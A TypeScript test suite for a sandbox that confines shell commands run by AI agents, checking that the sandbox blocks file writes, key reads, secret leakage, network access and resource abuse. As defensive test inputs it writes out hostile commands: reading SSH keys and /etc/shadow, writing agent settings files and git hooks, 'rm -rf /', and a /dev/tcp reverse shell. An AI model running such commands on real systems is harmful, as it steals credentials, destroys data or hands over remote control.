import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { sandboxObstacle } from '../../src/doors/shell/sandbox.ts'
import { binary, type Ended } from './binary.ts'
import { RunningGate, readEntries } from './running-gate.ts'

const obstacle = await sandboxObstacle()
const needs = obstacle === undefined ? '' : ` — SKIPPED, needs bubblewrap, socat and ripgrep: ${obstacle}`

let home: string
let project: string
beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'sandbox-'))
  project = join(home, 'project')
  mkdirSync(join(home, '.ssh'))
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'private words')
  mkdirSync(join(home, '.claude'))
  writeFileSync(join(home, '.claude', 'settings.json'), '{"hooks":{}}')
  writeFileSync(join(home, '.bashrc'), 'alias mine=1')
  mkdirSync(join(project, '.git', 'hooks'), { recursive: true })
  writeFileSync(join(project, 'AGENTS.md'), 'Use tabs.')
})
afterAll(() => rmSync(home, { recursive: true, force: true }))

async function run(
  argv: readonly string[],
  env: Readonly<Record<string, string>> = {},
  cwd = project,
): Promise<Ended> {
  const child = spawn(process.execPath, [binary, 'run', ...argv], {
    cwd,
    env: { PATH: process.env.PATH, HOME: home, NO_COLOR: '1', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  const texts = { out: '', err: '' }
  child.stdout.on('data', (chunk) => {
    texts.out += chunk
  })
  child.stderr.on('data', (chunk) => {
    texts.err += chunk
  })
  const [code] = await once(child, 'close')
  return { code, ...texts }
}

/** Of all processes that can be seen, those with exactly this command line. */
function processesOf(commandLine: string): string[] {
  return readdirSync('/proc').filter((name) => {
    const file = `/proc/${name}/cmdline`
    return /^\d+$/.test(name) && existsSync(file) && readFileSync(file, 'utf8') === commandLine
  })
}

function commandLines(): string[] {
  return readdirSync('/proc').flatMap((name) => {
    const file = `/proc/${name}/cmdline`
    return /^\d+$/.test(name) && existsSync(file) ? [readFileSync(file, 'utf8')] : []
  })
}

describe.skipIf(obstacle !== undefined)(`a command in the sandbox${needs}`, () => {
  test('works in the work tree, and passes on what it says and its exit code', async () => {
    expect(await run(['--', 'sh', '-c', 'echo one > made; cat made; echo two >&2; exit 3'])).toEqual({
      code: 3,
      out: 'one\n',
      err: 'two\n',
    })
    expect(readFileSync(join(project, 'made'), 'utf8')).toBe('one\n')
  })

  test('words with spaces and quotes arrive as they were given', async () => {
    expect((await run(['--', 'printf', '%s|', 'a b', "it's", '$HOME', ''])).out).toBe("a b|it's|$HOME||")
  })

  test('writes nowhere else, and not into what shells and agents obey', async () => {
    const places = [
      '../beside',
      '/tmp/portcullis-sandbox-test',
      '/etc/portcullis-test',
      'AGENTS.md',
      '.git/hooks/pre-commit',
      'CLAUDE.md',
      '.claude/settings.json',
      '.github/workflows/a.yml',
    ]
    const tries = places
      .map((place) => `mkdir -p "$(dirname ${place})"; echo x > ${place} && echo written ${place}`)
      .join('; ')
    expect((await run(['--policy', 'observe', '-c', tries])).out).toBe('')
    expect(readFileSync(join(project, 'AGENTS.md'), 'utf8')).toBe('Use tabs.')
    expect(existsSync(join(project, '.git', 'hooks', 'pre-commit'))).toBe(false)
    expect(existsSync('/tmp/portcullis-sandbox-test')).toBe(false)
    for (const place of ['CLAUDE.md', '.claude/settings.json', '.github/workflows/a.yml'])
      expect(existsSync(join(project, place))).toBe(false)
  })

  test('--write opens one more folder', async () => {
    const more = mkdtempSync(join(tmpdir(), 'more-'))
    expect((await run(['--write', more, '-c', `echo x > ${more}/a`])).code).toBe(0)
    expect(readFileSync(join(more, 'a'), 'utf8')).toBe('x\n')
    rmSync(more, { recursive: true })
  })

  test('reads no keys, no shell settings, no settings of agents, by whatever name', async () => {
    symlinkSync(join(home, '.ssh'), join(project, 'link'))
    const texts = [
      'cat ~/.ssh/id_ed25519',
      'cat link/id_ed25519',
      'cat ~/.bashrc',
      'cat ~/.claude/settings.json',
      'cat /proc/self/root/$HOME/.ssh/id_ed25519',
      'cat /etc/shadow',
      'python3 -c "print(open(\'$HOME/.ssh/id_ed25519\').read())"',
    ]
    const { out } = await run(['--policy', 'observe', '-c', texts.join('; ')])
    expect(out).not.toMatch(/private words|alias|hooks|root:/)
    expect((await run(['--policy', 'observe', '--hide', 'made', '-c', 'cat made'])).out).toBe('')
  })

  test('secrets of the environment stay outside, and other processes out of sight', async () => {
    const { out } = await run(
      ['--policy', 'observe', '-c', 'echo "[$GITHUB_TOKEN][$COLOUR]"; ls /proc | grep -c "^[0-9]"'],
      {
        GITHUB_TOKEN: 'ghp_x',
        COLOUR: 'red',
      },
    )
    expect(out.split('\n')[0]).toBe('[][red]')
    expect(Number(out.split('\n')[1])).toBeLessThan(20)
  })

  test('reaches nothing but the hosts it was given', async () => {
    const server = createServer((_request, response) => response.end('reached')).listen(0, '127.0.0.1')
    await once(server, 'listening')
    const bound = server.address()
    const port = typeof bound === 'object' && bound !== null ? bound.port : 0
    const direct = await run(['--', 'curl', '-sS', '-m', '3', '--noproxy', '*', `http://127.0.0.1:${port}/`])
    expect(direct.out).toBe('')
    const other = await run([
      '--allow-domain',
      'allowed.test',
      '--',
      'curl',
      '-sS',
      '-m',
      '5',
      `http://other.test:${port}/`,
    ])
    expect(other.out).not.toContain('reached')
    expect(other.err).toContain('other.test')
    server.close()
  })

  test('ends at its limits of time and of output', async () => {
    const began = Date.now()
    const slow = await run(['--time', '1', '-c', 'sleep 60 & sleep 60'])
    expect(slow).toMatchObject({ code: 124, err: expect.stringContaining('--time') })
    expect(Date.now() - began).toBeLessThan(30_000)
    const loud = await run(['--output', '0.001', '-c', 'yes'])
    expect(loud).toMatchObject({ code: 123, err: expect.stringContaining('--output') })
    expect(loud.out.length).toBe(1_048)
  })

  test('ends at its limit of processes, however they are begun, and takes them all along', async () => {
    const limits = await run(['--processes', '33', '-c', 'cat /proc/self/limits'])
    expect(limits.out).toMatch(/^Max processes +33 +33 /m)
    const many = 'i=0; while [ $i -lt 99 ]; do setsid sleep 97.5 & i=$((i+1)); done; wait'
    const crowd = await run(['--processes', '50', '-c', many])
    // The kernel holds an ordinary user to it: then there are no more, and the command is not stopped for them.
    if (process.getuid?.() === 0)
      expect(crowd).toMatchObject({ code: 122, err: expect.stringContaining('--processes') })
    expect(processesOf(['sleep', '97.5', ''].join('\0'))).toEqual([])
  })

  test('leaves nothing behind when the program that began it is killed', async () => {
    const place = mkdtempSync(join(tmpdir(), 'killed-'))
    const [temporary, tree] = [join(place, 'tmp'), join(place, 'tree')]
    for (const folder of [temporary, tree, join(tree, '.github')]) mkdirSync(folder)
    writeFileSync(join(tree, 'CLAUDE.md'), '')
    writeFileSync(join(tree, 'mine'), '')
    const env = { PATH: process.env.PATH, HOME: home, TMPDIR: temporary }
    const child = spawn(process.execPath, [binary, 'run', '--', 'sleep', '97.5'], { cwd: tree, env })
    await expect.poll(() => processesOf('sleep\x0097.5\0').length, { timeout: 20_000 }).toBe(1)
    expect(readdirSync(tree)).toContain('AGENTS.md')
    const relays = () => commandLines().filter((line) => line.includes(temporary))
    expect(relays().length).toBeGreaterThan(0)
    child.kill('SIGKILL')
    await expect.poll(() => readdirSync(temporary), { timeout: 10_000 }).toEqual([])
    expect(readdirSync(tree).sort()).toEqual(['.github', 'CLAUDE.md', 'mine'])
    await expect.poll(relays).toEqual([])
    rmSync(place, { recursive: true })
  })

  test('ends at its limit of memory, however many processes hold it', async () => {
    const hold =
      'my @held; for (1..60) { push @held, "x" x 4_000_000; select undef, undef, undef, 0.02 } sleep 30'
    const one = await run(['--memory', '100', '--', 'perl', '-e', hold])
    expect(one).toMatchObject({ code: 121, err: expect.stringContaining('the limit of --memory') })
    const part = hold.replace('60', '10')
    const four = await run(['--memory', '100', '-c', `for i in 1 2 3 4; do perl -e '${part}' & done; wait`])
    expect(four.code).toBe(121)
    const shared = 'my $held = "x" x 40_000_000; fork; fork; fork; select undef, undef, undef, 1'
    expect((await run(['--memory', '100', '--', 'perl', '-e', shared])).code).toBe(0)
    expect((await run(['--', 'cat', '/proc/self/oom_score_adj'])).out).toBe('1000\n')
  })

  test('reaches no keys of the kernel that its login holds', async () => {
    // KEYCTL_DESCRIBE and KEYCTL_GET_KEYRING_ID of the session keyring.
    const keyctl = process.arch === 'arm64' ? 219 : 250
    const calls = `for my $call (6, 0) { print syscall(${keyctl}, $call, -3, 0, 0), " " } print $!{EPERM} ? "kept" : "open"`
    expect((await run(['--', 'perl', '-e', `use Errno; ${calls}`])).out).toBe('-1 -1 kept')
  })

  test('ends when the program that began it is killed or its terminal is closed', async () => {
    for (const [signal, seconds] of [
      ['SIGKILL', '97.25'],
      ['SIGHUP', '97.75'],
    ] as const) {
      const argv = [binary, 'run', '-c', `echo begun; sleep ${seconds}`]
      const env = { PATH: process.env.PATH, HOME: home }
      const child = spawn(process.execPath, argv, { cwd: project, env, stdio: ['ignore', 'pipe', 'ignore'] })
      await once(child.stdout, 'data')
      const sleeping = ['sleep', seconds, ''].join('\0')
      await expect.poll(() => processesOf(sleeping).length, { timeout: 10_000 }).toBe(1)
      child.kill(signal)
      await once(child, 'exit')
      await expect.poll(() => processesOf(sleeping), { timeout: 10_000 }).toEqual([])
    }
  })

  test('reads what it is given, and cannot write to the file that this comes from', async () => {
    const notes = join(home, 'notes.txt')
    writeFileSync(notes, 'mine\n')
    const text = 'head -1; echo evil > /proc/self/fd/0'
    const argv = [process.execPath, binary, 'run', '--policy', 'observe', '-c', text]
    const env = { PATH: process.env.PATH, HOME: home, NOTES: notes }
    const redirected = ['-c', 'exec "$0" "$@" < "$NOTES"', ...argv]
    const child = spawn('sh', redirected, { cwd: project, env, stdio: ['ignore', 'pipe', 'ignore'] })
    const [said] = await Promise.all([once(child.stdout, 'data'), once(child, 'exit')])
    expect(String(said)).toBe('mine\n')
    expect(readFileSync(notes, 'utf8')).toBe('mine\n')
  })

  test('changes no setting of the kernel, also as root, whose files they are', async () => {
    const pattern = readFileSync('/proc/sys/kernel/core_pattern', 'utf8')
    const observed = (text: string) => run(['--policy', 'observe', '-c', text])
    const written = await observed('cat /proc/sys/kernel/ostype; echo x > /proc/sys/kernel/core_pattern')
    expect(readFileSync('/proc/sys/kernel/core_pattern', 'utf8')).toBe(pattern)
    expect(written).toMatchObject({ out: 'Linux\n', err: expect.stringContaining('Read-only') })
    const places = '/proc/sys /proc/sysrq-trigger /proc/fs /proc/bus /proc/irq /proc/acpi /proc/scsi'
    const writable = await observed(`find ${places} -type f -writable 2>/dev/null | head`)
    expect(writable.out).toBe('')
  })

  test('shares no memory and no queues with processes outside', async () => {
    const outside = readlinkSync('/proc/self/ns/ipc')
    const inside = await run(['-c', 'readlink /proc/self/ns/ipc; wc -l < /proc/sysvipc/shm'])
    expect(inside.out).toMatch(/^ipc:\[\d+\]\n1\n$/)
    expect(inside.out).not.toContain(outside)
  })

  test('is recorded in the ledger of a store, from the decision to how it ended', async () => {
    const store = join(home, 'store')
    expect((await run(['--store', store, '-c', 'true'])).code).toBe(0)
    expect((await run(['--store', store, '-c', 'false'])).code).toBe(1)
    expect((await run(['--store', store, '--', 'rm', '-rf', '/'])).code).toBe(126)
    const entries = readEntries(join(store, 'ledger'))
    expect(entries.filter(({ kind }) => kind === 'agent-outcome').map(({ outcome }) => outcome)).toEqual([
      'done',
      'failed',
    ])
    expect(entries.filter(({ kind }) => kind === 'agent-act').at(-1)).toMatchObject({
      agent: 'shell',
      decision: { action: 'deny' },
    })
  })

  test('is judged and recorded by a running gate, and does not run when the gate is gone', async () => {
    const gate = await RunningGate.open(
      'upstreams: [{ name: none, protocol: openai, url: "http://127.0.0.1:9/v1" }]\nagents: { mode: enforce }',
    )
    const { url } = gate
    expect(await run(['--gate', url, '--', 'echo', 'hello'])).toMatchObject({ code: 0, out: 'hello\n' })
    expect((await run(['--gate', url, '--', 'rm', '-rf', '/'])).code).toBe(126)
    expect(gate.entries().map(({ kind }) => kind)).toEqual(['agent-act', 'agent-outcome', 'agent-act'])
    await gate[Symbol.asyncDispose]()
    expect(await run(['--gate', url, '--', 'echo', 'hello'])).toMatchObject({ code: 126, out: '' })
  })
})

describe('without a sandbox', () => {
  test('a refused command is not run, whether or not a sandbox can be made', async () => {
    const { code, err } = await run(['-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'])
    expect({ code, err }).toEqual({ code: 126, err: expect.stringMatching(/Not run\. .*no-remote-shells/) })
    expect((await run(['--', 'crontab', 'jobs'])).code).toBe(126)
  })

  test('a machine without bubblewrap, or without namespaces, is told what to do, and nothing runs', async () => {
    const bin = mkdtempSync(join(tmpdir(), 'bin-'))
    const place = (name: string, text: string) => {
      writeFileSync(join(bin, name), text)
      chmodSync(join(bin, name), 0o755)
    }
    expect(await run(['--', 'touch', 'ran'], { PATH: bin })).toMatchObject({
      code: 125,
      err: expect.stringContaining('apt-get install bubblewrap socat ripgrep'),
    })
    place('bwrap', '#!/bin/sh\necho "bwrap: No permissions to create new namespace" >&2\nexit 1\n')
    for (const name of ['socat', 'rg']) place(name, '#!/bin/sh\nexit 0\n')
    symlinkSync(
      execFileSync('sh', ['-c', 'command -v which'], { encoding: 'utf8' }).trim(),
      join(bin, 'which'),
    )
    expect(await run(['--', 'touch', 'ran'], { PATH: `${bin}:/bin` })).toMatchObject({
      code: 125,
      err: expect.stringMatching(/No permissions to create new namespace.*sysctl/),
    })
    expect(existsSync(join(project, 'ran'))).toBe(false)
    rmSync(bin, { recursive: true })
  })

  test('a folder that holds the whole home folder, and options that are none, are refused', async () => {
    expect((await run(['--', 'true'], {}, home)).code).toBe(2)
    for (const argv of [
      [],
      ['-c', 'true', '--', 'true'],
      ['--time', 'soon', '--', 'true'],
      ['--allow-domain', 'https://x', '--', 'true'],
      ['--write', 'nowhere', '--', 'true'],
      ['--gate', 'http://g', '--store', 's', '--', 'true'],
    ])
      expect((await run(argv)).code, argv.join(' ')).toBe(2)
  })
})
